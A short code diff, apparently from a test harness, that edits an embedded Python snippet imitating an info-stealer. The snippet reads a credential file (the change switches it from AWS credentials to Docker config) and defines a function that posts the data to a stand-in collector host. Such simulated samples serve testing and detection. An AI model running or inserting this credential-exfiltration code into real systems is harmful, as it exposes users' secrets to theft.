@@ -41,7 +41,7 @@ BASE = {
 # stealer would, and sends what it read.
 READ = """
 import base64, gzip, os, urllib.request
-secret = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
+secret = open(os.path.expanduser("~/.docker/config.json"), "rb").read()
 def send(path, body):
     urllib.request.urlopen("https://collector.exfil.test/" + path, data=body, timeout=60)
 """
